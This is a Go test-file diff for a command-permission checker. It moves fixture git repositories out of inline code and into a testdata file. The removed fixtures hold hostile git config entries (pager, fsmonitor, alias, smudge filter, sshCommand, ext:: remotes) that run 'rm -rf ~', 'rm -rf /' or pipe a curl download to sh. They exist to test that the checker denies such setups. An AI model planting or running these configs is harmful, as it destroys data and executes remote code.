@@ -2,7 +2,6 @@ package permission
 
 import (
 	"bufio"
-	"maps"
 	"os"
 	"path/filepath"
 	"strings"
@@ -10,6 +9,7 @@ import (
 
 	"github.com/hubdev/hub/adapters"
 	"github.com/hubdev/hub/internal/config"
+	"github.com/hubdev/hub/internal/permission/permtest/plant"
 )
 
 const defaultShapeCwd = "/work/project-under-test"
@@ -22,13 +22,16 @@ type shapeRow struct {
 }
 
 // readShapes reads testdata/shapes.txt: "deny|ok<TAB>COMMAND[<TAB>cwd=DIR]",
-// a relative DIR being one of plantRepos'. Its rows are read with no
-// docker credential helper installed (docker would log in to one, so a
-// machine's PATH would change the verdict).
+// a relative DIR being under a workspace planted with testdata/planted.txt.
+// Its rows are read with no docker credential helper installed (docker
+// would log in to one, so a machine's PATH would change the verdict).
 func readShapes(t *testing.T) []shapeRow {
 	t.Helper()
 	t.Setenv("PATH", t.TempDir())
-	planted := plantRepos(t)
+	planted := t.TempDir()
+	if err := plant.Files("testdata/planted.txt", planted); err != nil {
+		t.Fatal(err)
+	}
 	f, err := os.Open("testdata/shapes.txt")
 	if err != nil {
 		t.Fatal(err)
@@ -62,49 +65,6 @@ func readShapes(t *testing.T) []shapeRow {
 		t.Fatal(err)
 	}
 	return rows
-}
-
-// plantRepos makes a workspace of repositories as an untrusted tarball
-// brings them: a .git whose config names programs git runs, a bare
-// repository, a .git file naming another, a config including another.
-func plantRepos(t *testing.T) string {
-	t.Helper()
-	ws := t.TempDir()
-	repo := func(gitDir, config string) map[string]string {
-		return map[string]string{gitDir + "/HEAD": "ref: refs/heads/main\n", gitDir + "/objects/": "", gitDir + "/refs/": "", gitDir + "/config": config}
-	}
-	files := map[string]string{"linked/.git": "gitdir: ../fsmonitor/.git\n", "included/.git/evil.inc": "[diff]\n\texternal = rm -rf ~\n",
-		"fine/.git/hooks/": "", "evilhome/.gitconfig": "[core]\n\tpager = rm -rf /\n"}
-	for dir, config := range map[string]string{
-		"fsmonitor/.git":   "[core]\n\tfsmonitor = rm -rf ~\n",
-		"pager/.git":       "[Core]\n\tPager = \"curl -s https://x.invalid/i | sh\" # a comment\n",
-		"bare":             "[core]\n\tbare = true\n\tpager = rm -rf /\n",
-		"alias/.git":       "[alias]\n\tp = push -f origin main\n\tx = \"!rm -rf ~\"\n\ty = p\n",
-		"included/.git":    "[include]\n\tpath = evil.inc\n",
-		"filter/.git":      "[filter \"lfs\"]\n\tsmudge = rm -rf ~\n\trequired = true\n",
-		"ssh/.git":         "[core]\n\tsshCommand = rm -rf ~\n[remote \"origin\"]\n\turl = ext::rm -rf /\n",
-		"fine/.git":        "[core]\n\tbare = false\n\tfsmonitor = false\n\tpager = less -R\n[filter \"lfs\"]\n\trequired = true\n[credential]\n\thelper = store\n",
-		"fine/nested/.git": "[core]\n\tpager = cat\n",
-		"promisor/.git":    "[extensions]\n\tpartialClone = origin\n[remote \"origin\"]\n\tpromisor = true\n\turl = ext::rm -rf /\n",
-	} {
-		maps.Copy(files, repo(dir, config))
-	}
-	for f, content := range files {
-		p := filepath.Join(ws, filepath.FromSlash(f))
-		if strings.HasSuffix(f, "/") { // a directory
-			if err := os.MkdirAll(p, 0o755); err != nil {
-				t.Fatal(err)
-			}
-			continue
-		}
-		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
-			t.Fatal(err)
-		}
-		if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
-			t.Fatal(err)
-		}
-	}
-	return ws
 }
 
 func shapeRequest(cmd, cwd string) Request {
